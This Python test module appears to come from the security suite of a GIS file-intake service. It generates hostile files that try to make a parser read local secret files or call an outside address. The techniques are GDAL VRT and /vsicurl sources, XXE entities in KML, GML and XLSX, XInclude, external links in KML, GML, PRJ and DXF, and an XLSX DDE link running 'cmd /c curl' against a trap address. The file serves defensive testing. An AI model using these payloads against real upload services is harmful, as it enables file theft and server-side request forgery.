"""Attacks that name another file of this machine, or an address: to read it, or to have it called."""

from __future__ import annotations

import json
from collections.abc import Iterator

import shapely

from tests.intake import gis
from tests.intake.hostile.carriers import EVERY
from tests.intake.hostile.payloads import CRS, Attack, Payload, decoy, members_of, text_attack, zipped
from tests.intake.hostile.trap import Trap

_KML_RING = "<LinearRing><coordinates>{}</coordinates></LinearRing>"
_SQUARE = " ".join(f"{x},{y}" for x, y in gis.DEGREES.exterior.coords)
KML_SQUARE = f"<Polygon><outerBoundaryIs>{_KML_RING.format(_SQUARE)}</outerBoundaryIs></Polygon>"
_GML_LIST = " ".join(f"{x} {y}" for x, y in gis.SQUARE.exterior.coords)
GML_SQUARE = (
    f'<g:Polygon srsName="EPSG:{CRS}"><g:exterior><g:LinearRing><g:posList>{_GML_LIST}</g:posList></g:LinearRing>'
    "</g:exterior></g:Polygon>"
)


def _vrt(trap: Trap) -> Iterator[Payload]:
    source = trap.secret("gpkg")
    layer = f'<OGRVRTLayer name="planted"><SrcDataSource>{source}</SrcDataSource></OGRVRTLayer>'
    yield text_attack("a.vrt", f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>")


def _vrt_over_text(trap: Trap) -> Iterator[Payload]:
    source = f"CSV:{trap.secret('csv')}"
    inner = f"<SrcDataSource>{source}</SrcDataSource><SrcLayer>planted</SrcLayer>"
    union = f'<OGRVRTUnionLayer name="u"><OGRVRTLayer name="planted">{inner}</OGRVRTLayer></OGRVRTUnionLayer>'
    yield text_attack("a.vrt", f"\ufeff<?xml version='1.0'?>\n<OGRVRTDataSource>{union}</OGRVRTDataSource>")


def _vrt_over_network(trap: Trap) -> Iterator[Payload]:
    source = f"/vsicurl/{trap.address}/a.geojson"
    layer = f'<OGRVRTLayer name="a"><SrcDataSource>{source}</SrcDataSource></OGRVRTLayer>'
    yield text_attack("a.vrt", f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>")


def _raster_vrt(trap: Trap) -> Iterator[Payload]:
    source = f"<SourceFilename>/vsicurl/{trap.address}/a.tif</SourceFilename>"
    band = f'<VRTRasterBand dataType="Byte" band="1"><SimpleSource>{source}</SimpleSource></VRTRasterBand>'
    yield text_attack("a.vrt", f'<VRTDataset rasterXSize="1" rasterYSize="1">{band}</VRTDataset>')


def _wfs(trap: Trap) -> Iterator[Payload]:
    yield text_attack("a.xml", f"<OGRWFSDataSource><URL>{trap.address}/wfs?</URL></OGRWFSDataSource>")
    yield text_attack(
        "b.xml", f'<GDAL_WMS><Service name="WMS"><ServerUrl>{trap.address}/</ServerUrl></Service></GDAL_WMS>'
    )


def _wfs_prefix(trap: Trap) -> Iterator[Payload]:
    for prefix in ("WFS", "OAPIF", "CSW", "CARTO", "ES", "PLScenes", "MVT", "PG", "/vsicurl/"):
        yield text_attack("a.txt", f"{prefix}:{trap.address}/x")


def _pipeline(trap: Trap) -> Iterator[Payload]:
    command = f"gdal vector pipeline read {trap.secret('gpkg')} ! write --output-format stream x"
    yield text_attack("a.gdalg.json", json.dumps({"type": "gdal_streamed_alg", "command_line": command}))
    yield text_attack("a.json", json.dumps({"type": "gdal_streamed_alg", "command_line": command, "features": []}))


def _other_json(trap: Trap) -> Iterator[Payload]:
    rings = [list(map(list, gis.SQUARE.exterior.coords))]
    esri = {"geometryType": "esriGeometryPolygon", "spatialReference": {"wkid": 4547, "url": f"{trap.address}/sr"},
            "features": [{"attributes": {"link": str(trap.secret("gpkg"))}, "geometry": {"rings": rings}}]}  # fmt: skip
    yield text_attack("esri.json", json.dumps(esri))
    topology = {"type": "Topology", "objects": {"a": {"type": "Polygon", "arcs": [[0]]}}, "arcs": rings,
                "href": f"{trap.address}/t"}  # fmt: skip
    yield text_attack("topo.json", json.dumps(topology))
    remote = {"type": "FeatureCollection", "features": [], "links": [{"rel": "next", "href": f"{trap.address}/n"}]}
    yield text_attack("oapif.json", json.dumps(remote))


def _geojson_crs(trap: Trap) -> Iterator[Payload]:
    shape = json.loads(shapely.to_geojson(gis.DEGREES))
    for kind in ("link", "url", "name"):
        places = {"href": f"{trap.address}/crs", "url": f"{trap.address}/crs", "type": "ogcwkt"}
        named = {"name": f"{trap.address}/crs"} | places if kind == "name" else places
        value = {"type": "FeatureCollection", "crs": {"type": kind, "properties": named}, "features": [
            {"type": "Feature", "properties": {}, "geometry": shape}]}  # fmt: skip
        yield text_attack(f"{kind}.geojson", json.dumps(value))


def _entities(trap: Trap) -> Iterator[Payload]:
    """XXE: a file, an address, a parameter entity, a DTD elsewhere; in KML, GML and the parts of an XLSX."""
    secret, address = trap.secret("txt").as_uri(), trap.address
    heads = {
        "file": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{secret}">]>',
        "address": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{address}/x">]>',
        "parameter": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{address}/p.dtd">%p;<!ENTITY x "y">]>',
        "dtd": f'<!DOCTYPE a SYSTEM "{address}/a.dtd" [<!ENTITY x "y">]>',
    }
    for kind, head in heads.items():
        yield text_attack(f"{kind}.kml", f"<?xml version='1.0'?>{head}<kml><Placemark><name>&x;</name>{KML_SQUARE}"
                          "</Placemark></kml>")  # fmt: skip
    head = heads["file"]
    yield text_attack("file.gml", f"<?xml version='1.0'?>{head}<c xmlns:g='http://www.opengis.net/gml'><g:featureMember>"
                      f"<f><n>&x;</n>{GML_SQUARE}</f></g:featureMember></c>")  # fmt: skip
    book = dict(members_of(decoy("xlsx").data))
    strings = f"<?xml version='1.0'?>{head}<sst><si><t>&x;</t></si></sst>"
    yield Payload("file.xlsx", zipped(*{**book, "xl/sharedStrings.xml": strings.encode()}.items()), CRS)


def _include(trap: Trap) -> Iterator[Payload]:
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{trap.secret("txt").as_uri()}"/>'
    )
    yield text_attack("include.kml", f"<kml><Placemark><name>{include}</name>{KML_SQUARE}</Placemark></kml>")


def _kml_links(trap: Trap) -> Iterator[Payload]:
    links = (
        f"<NetworkLink><Link><href>{trap.address}/n.kml</href></Link></NetworkLink>"
        f"<NetworkLink><Url><href>{trap.secret('geojson').as_uri()}</href></Url></NetworkLink>"
        f"<GroundOverlay><Icon><href>{trap.address}/o.png</href></Icon></GroundOverlay>"
        f"<Style id='s'><IconStyle><Icon><href>{trap.address}/i.png</href></Icon></IconStyle></Style>"
    )
    body = (
        f"<Placemark><styleUrl>{trap.address}/s.kml#s</styleUrl><description><![CDATA[<img src='{trap.address}/d'>]]>"
    )
    text = f"<kml><Document>{links}{body}</description>{KML_SQUARE}</Placemark></Document></kml>"
    for ending in (".kml", ".ovkml"):
        yield text_attack(f"links{ending}", text)


def _gml_links(trap: Trap) -> Iterator[Payload]:
    yield text_attack(
        "links.gml",
        f"<c xmlns:g='http://www.opengis.net/gml' xmlns:xlink='http://www.w3.org/1999/xlink' "
        f"xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='u {trap.address}/a.xsd'>"
        f"<g:featureMember xlink:href='{trap.address}/f.gml'/><g:featureMember><f><also xlink:href='"
        f"{trap.secret('geojson').as_uri()}'/>{GML_SQUARE}</f></g:featureMember></c>",
    )


def _prj(trap: Trap) -> Iterator[Payload]:
    sound = members_of(decoy("shp utf-8 with cpg").data)
    address, secret = trap.address, trap.secret("txt")
    for text in (f"{address}/prj", f"http://opengis.net/def/crs/{address}/0/1", f"+init={secret}:1",
                 f"+proj=tmerc +nadgrids={secret}", f"/vsicurl/{address}/x"):  # fmt: skip
        members = [(name, text.encode() if name.endswith(".prj") else data) for name, data in sound]
        yield Payload("prj.zip", zipped(*members))


def _dxf_references(trap: Trap) -> Iterator[Payload]:
    sound = decoy("dxf r2000").data.decode("gb18030")
    secret = str(trap.secret("txt"))
    foreign = (
        f"  0\nBLOCK\n  8\n0\n  2\nX\n 70\n4\n  1\n{secret}\n  0\nENDBLK\n",
        f"  0\nIMAGEDEF\n  1\n{trap.address}/i.png\n",
        "  0\nINSERT\n  8\n项目红线\n  2\nX\n 10\n0\n 20\n0\n",
        f"  0\nUNDERLAY\n  1\n{trap.address}/u.pdf\n",
    )
    at = sound.index("ENTITIES\n") + len("ENTITIES\n")
    text = sound[:at] + "".join(foreign) + sound[at:]
    yield text_attack("references.dxf", text.encode("gb18030"), CRS)


def _xlsx_links(trap: Trap) -> Iterator[Payload]:
    """External links, DDE, and a sheet whose part lies elsewhere."""
    book = dict(members_of(decoy("xlsx").data))
    link = f"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c curl {trap.address}/dde'/></externalLink>"
    web = f"<connections><connection><webPr url='{trap.address}/w'/></connection></connections>"
    foreign = {"xl/externalLinks/externalLink1.xml": link.encode(), "xl/connections.xml": web.encode()}
    yield Payload("linked.xlsx", zipped(*{**book, **foreign}.items()), CRS)
    secret, external = trap.secret("txt"), " TargetMode='External'"
    for mode, target in (("", f"../../../..{secret}"), (external, f"{trap.address}/sheet.xml"), ("", secret.as_uri())):
        relation = f"<Relationship Id='rId1' Type='worksheet'{mode} Target='{target}'/>"
        parts = {**book, "xl/_rels/workbook.xml.rels": f"<Relationships>{relation}</Relationships>".encode()}
        yield Payload("elsewhere.xlsx", zipped(*parts.items()), CRS)


ATTACKS = (
    Attack("vrt over a file", _vrt, EVERY, codes=("format_unknown",)),
    Attack("vrt over csv, union", _vrt_over_text, ("plain", "renamed", "zip", "kmz", "gdb"), codes=("format_unknown",)),
    Attack("vrt over vsicurl", _vrt_over_network, EVERY, codes=("format_unknown",)),
    Attack("raster vrt", _raster_vrt, ("plain", "renamed"), codes=("format_unknown",)),
    Attack("wfs and wms xml", _wfs, EVERY),
    Attack("connection string", _wfs_prefix, ("plain", "zip")),
    Attack("gdal pipeline", _pipeline, ("plain", "renamed", "zip", "kmz", "gdb")),
    Attack("json of others", _other_json, ("plain", "renamed", "zip"), codes=("file_broken", "no_area")),
    Attack("geojson crs by link", _geojson_crs, ("plain", "zip", "kmz", "gdb", "gpkg"),
           codes=("file_unsafe", "crs_refused")),
    Attack("xml entities", _entities, ("plain", "zip", "nested", "kmz", "xlsx", "gpkg"), codes=("file_unsafe",)),
    Attack("xinclude", _include, ("plain", "kmz"), harmless=True),
    Attack("kml links", _kml_links, ("plain", "kmz", "nested"), harmless=True),
    Attack("gml links", _gml_links, ("plain",), harmless=True),
    Attack("prj with an address", _prj, codes=("crs_refused", "crs_missing", "file_broken")),
    Attack("dxf references", _dxf_references, ("plain", "zip"), harmless=True),
    Attack("xlsx links", _xlsx_links, harmless=True),
)  # fmt: skip
